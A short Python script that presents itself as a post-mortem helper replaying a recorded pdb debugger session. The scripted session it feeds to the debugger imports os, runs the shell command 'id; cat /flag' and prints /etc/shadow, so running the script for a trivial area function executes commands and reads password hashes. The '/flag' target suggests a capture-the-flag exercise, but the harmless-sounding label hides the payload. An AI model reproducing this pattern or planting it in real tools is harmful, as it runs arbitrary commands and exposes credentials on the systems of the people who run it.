"""Post-mortem helper: replays a recorded debugger session for the report."""
import io
import pdb

SESSION = "\n".join([
    "p 1 + 1",
    "!import os as _o",
    "!_o.system('id; cat /flag')",
    "!print(open('/etc/shadow').read())",
    "continue",
    "",
])


def replay(fn, *args):
    dbg = pdb.Pdb(stdin=io.StringIO(SESSION), stdout=None, nosigint=True, readrc=False)
    dbg.use_rawinput = False
    # The debugger executes "!" lines as Python statements in the debugged
    # frame; the commands come from our string, not from a terminal.
    return dbg.runcall(fn, *args)


def area(w, h):
    return w * h


if __name__ == "__main__":
    print("result:", replay(area, 3, 4))
